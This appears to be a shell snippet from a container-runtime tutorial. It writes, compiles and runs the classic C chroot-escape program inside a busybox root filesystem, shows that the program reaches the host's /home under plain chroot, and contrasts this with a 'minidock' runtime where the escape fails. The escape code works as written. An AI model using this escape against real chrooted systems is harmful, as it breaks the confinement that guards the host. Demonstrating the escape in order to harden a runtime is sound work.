cat > escape.c <<'EOF'
  /* escape.c: the classic way out of a chroot. Only root can do it. */
  #include <stdio.h>
  #include <sys/stat.h>
  #include <unistd.h>

  int main(void)
  {
      mkdir("hatch", 0700);             /* a directory below the current root */
      if (chroot("hatch") != 0) {       /* the root moves down, the working directory stays */
          perror("chroot");
          return 1;
      }
      for (int i = 0; i < 64; i++)
          chdir("..");                  /* climb: the root is never met */
      chroot(".");                      /* wherever the climb ended becomes the root */
      execl("/bin/sh", "sh", (char *)0);
      perror("execl");
      return 1;
  }
  EOF
  gcc -static -o escape escape.c
  sudo cp escape ./target/rootfs/busybox/escape
  echo 'ls /home' | sudo chroot ./target/rootfs/busybox /escape     # the host's shell: its /home
  echo 'ls /' | sudo ./target/debug/minidock-03 run ./target/rootfs/busybox /escape   # the image's /
  sudo rm -r ./target/rootfs/busybox/escape ./target/rootfs/busybox/hatch escape escape.c
